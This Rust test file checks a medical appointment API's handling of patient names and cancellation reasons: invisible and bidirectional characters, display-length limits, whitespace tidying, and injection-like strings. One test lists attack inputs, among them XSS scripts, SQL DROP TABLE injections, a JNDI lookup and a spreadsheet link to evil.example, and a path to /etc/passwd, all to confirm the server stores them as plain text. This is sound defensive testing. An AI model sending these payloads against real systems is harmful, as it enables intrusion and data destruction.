//! Texts that hide, turn, pile up or mean something to another program.

use serde_json::json;
use shared::ErrorCode;

use super::World;
use crate::on_both;

on_both! {
    async fn what_hides_or_turns_is_refused(server) {
        let world = World::new(&server).await;
        let invisible = [
            '\0', '\u{7}', '\u{8}', '\u{1b}', '\u{7f}', '\u{85}', '\u{ad}', '\u{34f}', '\u{61c}', '\u{115f}', '\u{180e}', '\u{200b}', '\u{200c}', '\u{200e}', '\u{200f}',
            '\u{202a}', '\u{202e}', '\u{2060}', '\u{2066}', '\u{2069}', '\u{3164}', '\u{feff}', '\u{fff9}', '\u{e0041}',
        ];
        for character in invisible {
            let text = format!("Pat{character}Morgan");
            let faults = world.patient.patch("/me", json!({ "name": text })).await.invalid_fields();
            assert_eq!(faults, [("name".to_owned(), "invalid_characters".to_owned())], "{character:?}");
            let cancel = world.patient.post(&format!("{}/cancel", world.appointment), json!({ "reason": text })).await;
            assert_eq!(cancel.invalid_fields(), [("reason".to_owned(), "invalid_characters".to_owned())], "{character:?}");
        }
        // A name is one line; a joiner joins or does not belong.
        for name in ["Pat\nMorgan", "Pat\tMorgan", "Pat\rMorgan", "\u{200d}Pat", "Pat\u{200d}"] {
            world.patient.patch("/me", json!({ "name": name })).await.invalid_fields();
        }
        world.is_unchanged().await;
    }
}

on_both! {
    async fn lengths_are_what_people_see(server) {
        let world = World::new(&server).await;
        let zalgo = format!("Z{}", "\u{301}\u{330}".repeat(500));
        let families = "👨‍👩‍👧‍👦".repeat(100);
        for (name, is_fine) in [
            ("x".repeat(100), true),
            ("x".repeat(101), false),
            (families.clone(), true),
            (format!("{families}x"), false),
            ("e\u{301}".repeat(100), true),
            (zalgo, false),
            ("x".repeat(60_000), false),
        ] {
            let answer = world.patient.patch("/me", json!({ "name": name })).await;
            if is_fine {
                assert_eq!(answer.ok(200)["name"], name);
            } else {
                assert_eq!(answer.invalid_fields(), [("name".to_owned(), "too_long".to_owned())], "{name:.20}");
            }
        }
        world.patient.patch("/me", json!({ "name": "x".repeat(100_000) })).await.problem(413, ErrorCode::PayloadTooLarge);
    }
}

on_both! {
    async fn what_means_something_elsewhere_is_text_here(server) {
        let world = World::new(&server).await;
        for text in [
            "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "{{7*7}}", "${jndi:ldap://evil.example/x}", "#{7*7}", "=HYPERLINK(\"https://evil.example\")", "'; DROP TABLE accounts; --",
            "../../etc/passwd", "%00", "\\u0000", "&lt;b&gt;", "javascript:alert(1)", "Robert'); DROP TABLE patients;--", "O’Brien", "李小龍", "محمد", "👩🏽‍⚕️", "null", "undefined", "true", "0",
        ] {
            let changed = world.patient.patch("/me", json!({ "name": text })).await;
            assert_eq!(changed.headers["content-type"], "application/json");
            assert_eq!(changed.ok(200)["name"], text);
            assert_eq!(world.doctor.get(&world.appointment).await.ok(200)["patient"]["name"], text);
        }
    }
}

on_both! {
    async fn blanks_are_tidied_and_no_more(server) {
        let world = World::new(&server).await;
        for (sent, kept) in [("  Pat   Morgan ", "Pat Morgan"), ("Pat\u{a0}Morgan", "Pat Morgan"), ("Pat\u{3000}Morgan", "Pat Morgan"), ("Pat\u{2028}Morgan", "Pat Morgan"), ("PAT morgan", "PAT morgan")] {
            assert_eq!(world.patient.patch("/me", json!({ "name": sent })).await.ok(200)["name"], kept);
        }
        for blank in ["", " ", "\u{a0}\u{2003}\u{3000}"] {
            assert_eq!(world.patient.patch("/me", json!({ "name": blank })).await.invalid_fields(), [("name".to_owned(), "blank".to_owned())]);
        }
    }
}
